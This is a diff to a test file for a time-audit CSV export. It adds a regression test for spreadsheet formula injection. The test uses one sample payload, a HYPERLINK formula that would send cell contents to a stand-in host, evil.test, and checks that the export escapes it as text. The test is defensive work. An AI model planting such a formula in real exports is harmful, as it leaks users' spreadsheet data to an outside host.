@@ -12,10 +12,19 @@ describe('CSV rows', () => {
     ];
     expect(timeAuditCsvRows(entries)).toEqual([
       [...CSV_COLUMNS],
-      ['2026-03-02', '09:30', 'Plan', '15', '', '', 'unassigned'],
-      ['2026-03-02', '10:05', 'Call, then "write"\nnotes', '35', 'draining', '$$', 'replacement'],
+      ['2026-03-02', '09:30', 'Plan', 15, '', '', 'unassigned'],
+      ['2026-03-02', '10:05', 'Call, then "write"\nnotes', 35, 'draining', '$$', 'replacement'],
     ]);
     expect(CSV_COLUMNS).toEqual(['Date', 'Time', 'Task', 'Duration (min)', 'Energy', 'Value', 'Quadrant']);
     expect(timeAuditCsvName('2026-03-02')).toBe('time-audit-2026-03-02.csv');
+  });
+
+  // Issue 21 item 11: a task typed as a formula ran when the export was opened in a spreadsheet.
+  it('writes a task that looks like a formula as text', () => {
+    const at = new Date(2026, 2, 2, 9, 0).getTime();
+    const task = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
+    const [, row] = timeAuditCsvRows([{ task, timestamp: at, duration: 5, energy: null, value: null, quadrant: 'unassigned', date: '2026-03-02' }]);
+    expect(row![2]).toBe(`'${task}`);
+    expect(row![3]).toBe(5);
   });
 });
